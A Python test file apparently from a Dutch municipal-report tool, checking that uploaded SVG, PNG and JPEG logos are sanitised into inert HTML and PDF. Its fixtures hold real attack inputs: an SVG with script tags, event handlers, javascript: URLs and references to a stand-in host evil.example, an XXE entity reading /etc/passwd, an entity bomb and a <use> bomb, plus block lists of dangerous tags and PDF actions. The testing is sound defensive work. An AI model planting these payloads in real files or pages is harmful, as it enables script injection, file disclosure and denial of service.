"""A user's logo: sanitised from an allow-list, limited in size, shown in HTML and PDF, and nothing
in it runs, links or loads anything when someone opens the report."""

from __future__ import annotations

import io
import os
import struct
import subprocess
import sys
import zlib
from html.parser import HTMLParser

import pytest
from pypdf import PdfReader

import trendstudie
from trendstudie import store
from trendstudie.report.charts_for_report import make_chart
from trendstudie.report.content import Context, Options
from trendstudie.report.logo import MAX_BYTES, LogoError, load_logo, logo_from_bytes, sanitise_svg
from trendstudie.report.write import write_one

MARKER = "Gemeentelogo Teststad"

HOSTILE = f"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" height="60"
     onload="alert(1)">
  <style>@import url(http://evil.example/x.css); .a {{ fill: #1f4e79; }} rect {{ stroke: url(http://evil.example/p) }}
    body {{ display: none }}</style>
  <script>alert(2)</script>
  <script xlink:href="http://evil.example/x.js"/>
  <defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>
  <rect id="samenvatting" class="a" width="240" height="60" onclick="alert(3)"
        style="fill:url(#g);background:url(javascript:alert(4))"/>
  <text x="10" y="40" font-size="14">&lt;/div&gt;&lt;script&gt;alert(5)&lt;/script&gt;{MARKER}</text>
  <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml"><script>alert(6)</script>
    <img src="http://evil.example/i.png"/></div></foreignObject>
  <image xlink:href="http://evil.example/track.png" width="10" height="10"/>
  <image href="file:///etc/passwd" width="10" height="10"/>
  <a xlink:href="javascript:alert(7)"><circle cx="5" cy="5" r="4" fill="green"/></a>
  <use xlink:href="http://evil.example/s.svg#x"/>
  <use href="#samenvatting" x="3"/>
  <set attributeName="onmouseover" to="alert(8)"/>
  <animate attributeName="href" values="javascript:alert(9)"/>
  <iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(10)"/>
  <circle cx="20" cy="20" r="5" fill="url('http://evil.example/f')" filter="url(data:x)"/>
</svg>
"""

ENTITY_BOMB = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&d;</text></svg>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>
"""


def png(width: int = 4, height: int = 3) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + b"\x1f\x4e\x79" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


class Audit(HTMLParser):
    """Every tag, attribute and reference an HTML document contains, as a browser would parse it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, k, v or "") for k, v in attrs)

    handle_startendtag = handle_starttag


def assert_inert(html: str) -> None:
    audit = Audit()
    audit.feed(html)
    assert not {"script", "foreignobject", "iframe", "object", "embed", "set", "animate", "a"} & set(audit.tags), audit.tags
    assert not [a for a in audit.attrs if a[1].startswith("on")], "event handler"
    for tag, name, value in audit.attrs:
        if name in ("href", "xlink:href", "src", "action", "formaction"):
            assert value.startswith("#") or value.startswith("data:image/"), (tag, name, value)
        if name == "style" or "url(" in value:
            assert "javascript" not in value.lower() and "http" not in value.lower(), (tag, name, value)
    assert "evil.example" not in html and "javascript:" not in html.lower()


def test_hostile_svg_keeps_only_the_drawing():
    logo = sanitise_svg(HOSTILE.encode(), "logo.svg")
    assert_inert(logo.svg)
    assert MARKER in logo.svg and "&lt;/div&gt;&lt;script&gt;" in logo.svg  # text stays text
    assert 'id="logo-samenvatting"' in logo.svg and 'xlink:href="#logo-samenvatting"' in logo.svg  # no clash with anchors
    assert "url(#logo-g)" in logo.svg and "fill:#1f4e79" in logo.svg  # <style> applied inline, refs kept
    assert "<style" not in logo.svg and "display" not in logo.svg and "class=" not in logo.svg
    for what in ("<script>", "onload", "onclick", "<foreignObject>", "<set>", "<animate>", "@import", "externe verwijzing"):
        assert what in logo.removed


@pytest.mark.parametrize("text", [ENTITY_BOMB, EXTERNAL_ENTITY])
def test_entities_and_dtd_declarations_are_refused(text):
    with pytest.raises(LogoError, match="entiteiten en DTD's zijn in een logo niet toegestaan"):
        sanitise_svg(text.encode(), "logo.svg")


def test_a_plain_doctype_and_an_encoding_declaration_are_fine():
    text = ('<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
            '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
            'height="10"><text>caf\xe9</text></svg>').encode("latin-1")
    logo = sanitise_svg(text, "logo.svg")
    assert "café" in logo.svg and "viewBox=\"0 0 10 10\"" in logo.svg and "DOCTYPE" not in logo.svg


@pytest.mark.parametrize("content, message", [
    (b"<html><body>hallo</body></html>", "is geen SVG-bestand (het hoofdelement is <html>)"),
    (b"gewoon tekst", "is geen SVG-, PNG- of JPEG-bestand"),
    (b"GIF89a\x01\x00\x01\x00", "is geen SVG-, PNG- of JPEG-bestand"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"><rect', "is geen geldige SVG"),
    (b"\x89PNG\r\n\x1a\nkapot", "de kop is beschadigd"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"><g id="x"><use href="#x"/></g></svg>', "een lus"),
    (b'<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"/>', "kan niet getekend worden"),
])
def test_unusable_files_are_refused_naming_the_file(tmp_path, content, message):
    path = tmp_path / "logo.svg"
    path.write_bytes(content)
    with pytest.raises(LogoError) as exc:
        load_logo(path)
    assert str(path) in str(exc.value) and message in str(exc.value)


def test_a_use_bomb_is_refused(tmp_path):
    groups = ['<g id="a0"><rect width="1" height="1"/></g>']
    groups += [f'<g id="a{i}">' + f'<use href="#a{i - 1}"/>' * 10 + "</g>" for i in range(1, 7)]
    path = tmp_path / "bom.svg"
    path.write_text('<svg xmlns="http://www.w3.org/2000/svg">' + "".join(groups) + "</svg>")
    with pytest.raises(LogoError, match="te complex"):
        load_logo(path)


def test_a_logo_above_the_size_limit_is_refused_with_its_size(tmp_path):
    path = tmp_path / "groot.svg"
    path.write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg">' + b" " * (3 * MAX_BYTES) + b"</svg>")
    with pytest.raises(LogoError, match=r"is 3,0 MB; een logo mag hoogstens 1 MB zijn"):
        load_logo(path)


def test_png_and_jpeg_are_embedded_as_data_uris(tmp_path):
    (tmp_path / "logo.png").write_bytes(png(40, 12))
    logo = load_logo(tmp_path / "logo.png")
    assert 'viewBox="0 0 40 12"' in logo.svg and 'xlink:href="data:image/png;base64,' in logo.svg
    # a JPEG header: SOI, APP0, SOF0 with height 30 and width 90
    jpeg = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
            b"\xff\xc0\x00\x11\x08\x00\x1e\x00\x5a\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xd9")
    assert 'viewBox="0 0 90 30"' in logo_from_bytes(jpeg, "logo.jpg").svg


def test_embedded_images_must_be_png_or_jpeg_data():
    import base64

    good = base64.b64encode(png()).decode()
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
           f'<image width="4" height="3" xlink:href="data:image/png;base64,{good}"/>'
           '<image width="4" height="3" href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4="/>'
           '<image width="4" height="3" href="data:text/html,&lt;script&gt;"/></svg>')
    out = sanitise_svg(svg, "logo.svg").svg
    assert out.count("<image") == 1 and "data:image/png;base64," in out


def pdf_actions(data: bytes) -> set[str]:
    """Every action type and script key anywhere in the PDF's object graph."""
    reader = PdfReader(io.BytesIO(data))
    found: set[str] = set()
    seen: set[int] = set()

    def walk(obj):
        obj = obj.get_object() if hasattr(obj, "get_object") else obj
        if id(obj) in seen:
            return
        seen.add(id(obj))
        if isinstance(obj, dict):
            if "/S" in obj:
                found.add(str(obj["/S"]))
            found.update(k for k in obj if k in ("/JS", "/JavaScript", "/URI", "/Launch", "/AA", "/OpenAction"))
            for v in obj.values():
                walk(v)
        elif isinstance(obj, list):
            for v in obj:
                walk(v)

    walk(reader.trailer)
    return found


@pytest.fixture(scope="module")
def ctx(built_home):
    return Context(store.connect(built_home / "trendstudie.duckdb"))


def test_a_report_with_a_hostile_logo_runs_and_links_nothing(ctx, tmp_path):
    (tmp_path / "logo.svg").write_text(HOSTILE, encoding="utf-8")
    logo = load_logo(tmp_path / "logo.svg")
    opts = Options(domains=("veiligheid",), future=False, logo_svg=logo.svg)
    w = write_one(ctx, "GM0193", tmp_path / "uit", opts, pdf=True, manifest=None, chart_maker=make_chart)
    html = (tmp_path / "uit" / w.files[0]).read_text(encoding="utf-8")
    assert '<div class="logo"><svg' in html and MARKER in html
    logo_part = html[html.index('<div class="logo">'):html.index("</header>")]
    assert_inert(logo_part)
    assert "<script" not in html and "evil.example" not in html
    pdf = (tmp_path / "uit" / w.files[1]).read_bytes()
    actions = pdf_actions(pdf)
    assert not actions & {"/JavaScript", "/JS", "/URI", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE",
                          "/AA", "/OpenAction"}, actions
    assert b"evil.example" not in pdf
    cover = PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    assert MARKER in cover  # the logo is drawn on the cover of the PDF


def test_a_png_logo_is_an_image_on_the_pdf_cover(ctx, tmp_path):
    from trendstudie.report.content import build_report
    from trendstudie.report.pdf import render_pdf

    (tmp_path / "logo.png").write_bytes(png(40, 12))
    report = build_report(ctx, "GM0193", Options(domains=("veiligheid",), future=False), make_chart)
    page = PdfReader(io.BytesIO(render_pdf(report, logo_svg=load_logo(tmp_path / "logo.png").svg))).pages[0]
    images = []

    def walk(obj, seen):
        obj = obj.get_object() if hasattr(obj, "get_object") else obj
        if id(obj) in seen:
            return
        seen.add(id(obj))
        if isinstance(obj, dict):
            if obj.get("/Subtype") == "/Image":
                images.append((obj["/Width"], obj["/Height"]))
            for v in obj.values():
                walk(v, seen)

    walk(page["/Resources"], set())
    assert (40, 12) in images


def run_cli(*args: str, home) -> subprocess.CompletedProcess:
    """The CLI as a user runs it (its own process, so the error boundary of main() is included)."""
    src = os.path.dirname(os.path.dirname(trendstudie.__file__))
    env = {**os.environ, "TRENDSTUDIE_HOME": str(home), "PYTHONPATH": src, "COLUMNS": "200"}
    return subprocess.run([sys.executable, "-m", "trendstudie", *args], env=env, capture_output=True, text=True,
                          timeout=300)


def test_rapport_refuses_a_file_that_is_no_logo(built_home, tmp_path):
    (tmp_path / "logo.svg").write_text("<html><script>alert(1)</script></html>")
    result = run_cli("rapport", "Zwolle", "--uit", str(tmp_path / "uit"), "--logo", str(tmp_path / "logo.svg"),
                     home=built_home)
    assert result.returncode != 0
    assert "is geen SVG-bestand" in result.stderr and "Traceback" not in result.stderr + result.stdout
    assert not (tmp_path / "uit").exists()
